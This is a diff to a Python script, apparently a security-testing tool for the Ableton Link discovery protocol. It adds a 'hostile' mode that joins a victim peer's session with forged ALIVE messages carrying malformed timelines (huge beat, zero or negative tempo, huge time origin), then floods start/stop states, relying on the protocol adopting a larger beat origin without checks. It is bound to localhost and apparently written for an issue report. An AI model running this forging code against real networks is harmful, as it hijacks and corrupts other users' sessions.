@@ -22,6 +22,14 @@ The message (ableton/discovery/v1/Messages.hpp, ableton/link/*.hpp; all numbers 
 sends RATE ALIVEs a second for SECONDS seconds, cycling through SESSIONS forged sessions, then waits a second for the
 last pings and prints one JSON line: {"sent": ALIVEs, "pings": datagrams at the victim, "ping_bytes": their bytes,
 "responses": datagrams back to the sender}.
+
+  link_forger.py hostile
+
+(issue 43) waits for a Link peer's ALIVE, then joins its session as a forged peer of the same session id: a peer of
+the session whose timeline has a larger beat origin is adopted at once, no measurement, and a later start/stop
+timestamp likewise. It sends each hostile timeline of the series for half a second, 20 ALIVEs: a huge beat, a tempo
+of 0 us a beat, a negative one, a huge time origin, then starts and stops every 5 ms for 2 s; a JSON line per step,
+{"step": name}, and {"done": ALIVEs sent} at the end.
 """
 import json
 import os
@@ -58,7 +66,62 @@ def count(sock, tally, stop):
         tally[1] += len(data)
 
 
+def entries(message):
+    """The entries of a Link discovery message, by key."""
+    found, at = {}, 20
+    while at + 8 <= len(message):
+        key, size = message[at:at + 4], struct.unpack(">I", message[at + 4:at + 8])[0]
+        found[key] = message[at + 8:at + 8 + size]
+        at += 8 + size
+    return found
+
+
+def hostile():
+    listener = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+    listener.bind(("", GROUP[1]))
+    listener.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, socket.inet_aton(GROUP[0]) + socket.inet_aton("127.0.0.1"))
+    node = os.urandom(8)
+    while True:
+        message = listener.recv(2048)
+        if message[:8] == b"_asdp_v\x01" and message[8] == 1 and message[12:20] != node:
+            session = entries(message).get(b"sess")
+            if session:
+                break
+    print(json.dumps({"victim": session.hex()}), flush=True)
+    sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    sender.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton("127.0.0.1"))
+    sender.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_LOOP, 1)
+    sender.bind(("127.0.0.1", 0))
+    endpoint = entry(b"mep4", socket.inet_aton("127.0.0.1") + struct.pack(">H", sender.getsockname()[1]))
+    big = 1 << 62
+    sent = 0
+
+    def send(timeline, playing=False, stamp=0):
+        nonlocal sent
+        sender.sendto(b"_asdp_v\x01" + struct.pack(">BBH", 1, 5, 0) + node + entry(b"tmln", struct.pack(">qqq", *timeline))
+                      + entry(b"sess", session) + entry(b"stst", struct.pack(">?qq", playing, 0, stamp)) + endpoint, GROUP)
+        sent += 1
+
+    # Each timeline's beat origin above the last, so that each is adopted.
+    steps = [("huge beat", (500_000, big, 0)), ("tempo 0", (0, big + 1, 0)), ("negative tempo", (-500_000, big + 2, 0)),
+             ("huge time origin", (500_000, big + 3, big))]
+    for name, timeline in steps:
+        print(json.dumps({"step": name}), flush=True)
+        for _ in range(20):
+            send(timeline)
+            time.sleep(0.025)
+    print(json.dumps({"step": "start/stop flood"}), flush=True)
+    start = time.monotonic()
+    while time.monotonic() - start < 2:
+        send(steps[-1][1], playing=sent % 2 == 0, stamp=big + sent)
+        time.sleep(0.005)
+    print(json.dumps({"done": sent}), flush=True)
+
+
 def main():
+    if sys.argv[1:] == ["hostile"]:
+        return hostile()
     host, port, sessions, rate, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4]), float(sys.argv[5])
     victim = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
     victim.bind((host, port))
